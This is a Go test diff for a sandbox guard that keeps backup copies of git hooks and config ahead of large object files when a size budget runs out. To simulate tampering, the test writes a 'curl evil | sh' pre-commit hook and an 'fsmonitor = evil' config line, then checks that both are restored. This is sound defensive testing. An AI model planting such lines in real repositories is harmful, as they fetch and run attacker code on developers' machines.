@@ -5,10 +5,13 @@ package sandbox
 
 import (
 	"context"
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
+
+	"golang.org/x/sys/unix"
 
 	"github.com/co-cli/co/internal/protect"
 )
@@ -195,5 +198,38 @@ func TestGuardPrimeGivesUp(t *testing.T) {
 	g.prime(context.Background())
 	if !g.primed || len(g.tree) != 4 {
 		t.Errorf("primed %v, %d directories", g.primed, len(g.tree))
+	}
+}
+
+// When the copies would pass keepTotalMax, the largest files go without one, not hooks or config.
+func TestGuardKeepsSmallFilesFirst(t *testing.T) {
+	// The large files fill the budget to the byte and come first by path.
+	files := map[string]string{"z/.git/hooks/pre-commit": "#!/bin/sh\n", "z/.git/config": "[core]\n"}
+	for i := range keepTotalMax / keepFileMax {
+		files[fmt.Sprintf("a/.git/objects/big%d", i)] = strings.Repeat("x", keepFileMax)
+	}
+	g, ws := newTestGuard(t, files)
+	ps := command(t, g, func() {
+		write(t, ws, "z/.git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
+		write(t, ws, "z/.git/config", "[core]\n\tfsmonitor = evil\n")
+	})
+	mustHave(t, ws, "z/.git/hooks/pre-commit", "#!/bin/sh\n")
+	mustHave(t, ws, "z/.git/config", "[core]\n")
+	if len(ps) != 2 || ps[0].Failed != "" || ps[1].Failed != "" {
+		t.Errorf("%+v", ps)
+	}
+	var without []string
+	for rel, e := range g.base {
+		if e.st.typ() == unix.S_IFREG && !e.kept {
+			without = append(without, rel)
+		}
+	}
+	if len(without) == 0 {
+		t.Fatal("everything kept: the test no longer passes the budget")
+	}
+	for _, rel := range without {
+		if !strings.Contains(rel, "/objects/big") {
+			t.Errorf("%s has no copy", rel)
+		}
 	}
 }
